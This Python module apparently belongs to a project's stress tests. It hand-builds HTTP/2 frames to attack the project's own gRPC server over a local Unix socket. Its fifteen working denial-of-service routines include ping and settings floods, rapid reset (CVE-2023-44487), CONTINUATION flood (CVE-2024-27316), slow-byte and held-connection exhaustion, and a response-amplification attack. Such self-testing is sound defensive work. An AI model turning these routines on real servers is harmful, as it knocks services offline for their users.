"""Attacks of a hostile local process on one of our Unix sockets; each is a function of the socket's path and the time at which to end.

They write HTTP/2 by hand, because no client library lets itself be used like this.
bench/hostile.py and tests/flow/test_hostile_socket.py run them.
"""

import contextlib
import select
import socket
import struct
import time
from collections.abc import Callable, Sequence
from functools import lru_cache
from itertools import cycle
from pathlib import Path

from hpack import Encoder

__all__ = ["ATTACKS", "frame", "greeting", "request"]

_DATA, _HEADERS, _RST, _SETTINGS, _PING, _WINDOW_UPDATE, _CONTINUATION = 0, 1, 3, 4, 6, 8, 9
_END_STREAM, _END_HEADERS = 0x1, 0x4
_MOST_STREAMS = 2**30

greeting = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes(3) + bytes([_SETTINGS, 0]) + bytes(4)


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """One HTTP/2 frame."""
    return len(payload).to_bytes(3, "big") + struct.pack(">BBL", kind, flags, stream) + payload


def request(
    stream: int, method: str = "Check", *extra: tuple[str, str], service: str = "grpc.health.v1.Health"
) -> bytes:
    """The headers of a call, of the health service by default, in literals without indexing so that they can be repeated.

    Args:
        extra: one of the usual fields is replaced, another comes last.
    """
    return frame(_HEADERS, _END_HEADERS, stream, _encoded(method, extra, service))


@lru_cache  # attacks have many streams, each with the same fields
def _encoded(method: str, extra: tuple[tuple[str, str], ...], service: str) -> bytes:
    usual = {
        ":method": "POST",
        ":scheme": "http",
        ":path": f"/{service}/{method}",
        ":authority": "localhost",
        "content-type": "application/grpc",
        "te": "trailers",
    }
    others = [(name, value) for name, value in extra if name not in usual]
    fields = [*(usual | {name: value for name, value in extra if name in usual}).items(), *others]
    encoder = Encoder()
    encoder.header_table_size = 0
    return bytes(encoder.encode(fields)[1:])  # without the table size update, legal only once


def _connect(path: Path, hello: bytes = greeting) -> socket.socket:
    sock = socket.socket(socket.AF_UNIX)
    sock.settimeout(0.2)
    sock.connect(str(path))
    sock.sendall(hello)
    return sock


def _pour(path: Path, until: float, make: Callable[[int], bytes], *, reads: bool = True) -> None:
    """Send batches as fast as they are accepted, on a new connection whenever one is closed."""
    while time.perf_counter() < until:
        with contextlib.suppress(OSError), _connect(path) as sock:
            sock.setblocking(False)
            for stream in range(1, _MOST_STREAMS, 256):
                _push(sock, make(stream), until, reads=reads)
                if time.perf_counter() >= until:
                    return


def _push(sock: socket.socket, batch: bytes, until: float, *, reads: bool) -> None:
    rest = memoryview(batch)
    while rest and time.perf_counter() < until:
        readable, writable, _ = select.select([sock] if reads else [], [sock], [], 0.1)
        if readable and not sock.recv(262_144):
            raise ConnectionResetError
        if writable:
            rest = rest[sock.send(rest) :]


def ping_flood(path: Path, until: float) -> None:
    """PINGs, whose answers are read."""
    batch = frame(_PING, 0, 0, b"12345678") * 512
    _pour(path, until, lambda _: batch)


def ping_flood_unread(path: Path, until: float) -> None:
    """PINGs, whose answers are left in the socket."""
    batch = frame(_PING, 0, 0, b"12345678") * 512
    _pour(path, until, lambda _: batch, reads=False)


def settings_flood(path: Path, until: float) -> None:
    """SETTINGS, each of which must be acknowledged."""
    batch = frame(_SETTINGS, 0, 0, struct.pack(">HL", 4, 65535)) * 512
    _pour(path, until, lambda _: batch)


def rapid_reset(path: Path, until: float) -> None:
    """Calls begun and reset at once (CVE-2023-44487)."""
    header = request(1)[9:]

    def batch(first: int) -> bytes:
        streams = range(first, first + 256, 2)
        return b"".join(
            frame(_HEADERS, _END_HEADERS, n, header) + frame(_RST, 0, n, struct.pack(">L", 8)) for n in streams
        )

    _pour(path, until, batch)


def continuation_flood(path: Path, until: float) -> None:
    """An endless header block (CVE-2024-27316)."""
    more = frame(_CONTINUATION, 0, 1, b"") * 64
    _pour(path, until, lambda n: (frame(_HEADERS, 0, 1, b"") if n == 1 else b"") + more)


def tiny_data(path: Path, until: float) -> None:
    """One call, whose message is sent in frames of one byte."""
    more = frame(_DATA, 0, 1, b"x") * 64
    _pour(path, until, lambda n: (request(1) if n == 1 else b"") + more)


def length_prefix(path: Path, until: float) -> None:
    """Messages that announce 4 GiB, and start to send them."""
    prefix = b"\0\xff\xff\xff\xff" + bytes(16_000)

    def batch(first: int) -> bytes:
        return b"".join(request(n) + frame(_DATA, 0, n, prefix) for n in range(first, first + 8, 2))

    _pour(path, until, batch)


def garbage(path: Path, until: float) -> None:
    """Bytes that are not HTTP/2, again and again."""
    while time.perf_counter() < until:
        for hello in (
            b"GET / HTTP/1.1\r\n\r\n",
            bytes(range(256)),
            b"\x16\x03\x01" + bytes(512),
            greeting + b"\xff" * 64,
        ):
            with contextlib.suppress(OSError), _connect(path, hello) as sock:
                sock.recv(64)


def connect_storm(path: Path, until: float) -> None:
    """Connections that are closed as soon as they are open."""
    while time.perf_counter() < until:
        with contextlib.suppress(OSError), _connect(path):
            pass


def silent(path: Path, until: float) -> None:
    """As many connections as possible, without a byte."""
    _hold(path, until, b"", count=300)


def slow_bytes(path: Path, until: float) -> None:
    """Many connections that send HTTP/2's preface and then one byte of a call at a time."""
    call = request(1) + frame(_DATA, 0, 1, b"\0\0\0\0\x10" + bytes(16))
    with contextlib.ExitStack() as held:
        socks = []
        for _ in range(250):
            if time.perf_counter() >= until:
                return
            with contextlib.suppress(OSError):
                socks.append(held.enter_context(_connect(path)))
        for at in cycle(range(len(call))):
            for sock in socks:
                with contextlib.suppress(OSError):
                    sock.send(call[at : at + 1])
            if time.perf_counter() >= until:
                return
            _rest(min(until, time.perf_counter() + 0.02))


def held_calls(path: Path, until: float) -> None:
    """As many calls as possible, none of which ever sends its message."""
    _hold(path, until, greeting + b"".join(request(n) for n in range(1, 200, 2)))


def busy_calls(path: Path, until: float) -> None:
    """Proper calls from many connections at once, as fast as they are accepted."""
    with contextlib.ExitStack() as held:
        socks = [held.enter_context(_connect(path)) for _ in range(64)]
        for sock in socks:
            sock.setblocking(False)
        unsent = dict.fromkeys(socks, memoryview(b""))
        following = dict.fromkeys(socks, 1)
        while time.perf_counter() < until:
            for sock in socks:
                if not unsent[sock]:
                    unsent[sock] = memoryview(_checks(following[sock]))
                    following[sock] += 32
                with contextlib.suppress(OSError):
                    unsent[sock] = unsent[sock][sock.send(unsent[sock]) :]
                with contextlib.suppress(OSError):
                    sock.recv(65536)
            _rest(min(until, time.perf_counter() + 0.001))


def denials_again(path: Path, until: float) -> None:
    """Requests for all denials, again and again: a few bytes that are answered with hundreds of thousands."""
    with contextlib.ExitStack() as held:
        socks = [held.enter_context(_connect(path, _greedy)) for _ in range(30)]
        for sock in socks:
            sock.setblocking(False)
        for first in cycle(range(1, _MOST_STREAMS, 4)):
            for sock in socks:
                with contextlib.suppress(OSError):
                    sock.send(b"".join(map(_follow, (first, first + 2))))
            _drain(socks, min(until, time.perf_counter() + 0.3))
            for sock in socks:
                with contextlib.suppress(OSError):
                    sock.send(b"".join(frame(_RST, 0, n, struct.pack(">L", 8)) for n in (first, first + 2)))
            if time.perf_counter() >= until:
                return


def denials_unread(path: Path, until: float) -> None:
    """Requests for all denials on as many streams as possible, whose answers are not read."""
    _hold(path, until, greeting + b"".join(map(_follow, range(1, 200, 2))))


_greedy = (
    greeting
    + frame(_SETTINGS, 0, 0, struct.pack(">HL", 4, 2**31 - 1))
    + frame(_WINDOW_UPDATE, 0, 0, struct.pack(">L", 2**31 - 2**16))
)


def _follow(stream: int) -> bytes:
    """A whole call of Denials/Follow."""
    headers = request(stream, "Follow", ("workload.spiffe.io", "true"), service="cognomen.workload.v1.Denials")
    return headers + frame(_DATA, _END_STREAM, stream, b"\0\0\0\0\0")


def _drain(socks: Sequence[socket.socket], until: float) -> None:
    while (left := until - time.perf_counter()) > 0:
        for sock in select.select(socks, [], [], left)[0]:
            with contextlib.suppress(OSError):
                if not sock.recv(262_144):
                    return


def _hold(path: Path, until: float, hello: bytes, *, count: int = 250) -> None:
    """Open that many connections, send that on each, and keep them."""
    with contextlib.ExitStack() as held:
        for _ in range(count):
            if time.perf_counter() >= until:
                return
            with contextlib.suppress(OSError):
                held.enter_context(_connect(path, hello))
        _rest(until)


def _checks(first: int) -> bytes:
    """Sixteen whole calls, and flow-control room for their answers."""
    calls = (request(n) + frame(_DATA, _END_STREAM, n, b"\0\0\0\0\0") for n in range(first, first + 32, 2))
    return b"".join(calls) + frame(_WINDOW_UPDATE, 0, 0, struct.pack(">L", 1024))


def _rest(until: float) -> None:
    time.sleep(max(0.0, until - time.perf_counter()))


ATTACKS: dict[str, Callable[[Path, float], None]] = {
    attack.__name__: attack
    for attack in (
        ping_flood,
        ping_flood_unread,
        settings_flood,
        rapid_reset,
        continuation_flood,
        tiny_data,
        length_prefix,
        garbage,
        connect_storm,
        silent,
        slow_bytes,
        held_calls,
        busy_calls,
        denials_again,
        denials_unread,
    )
}
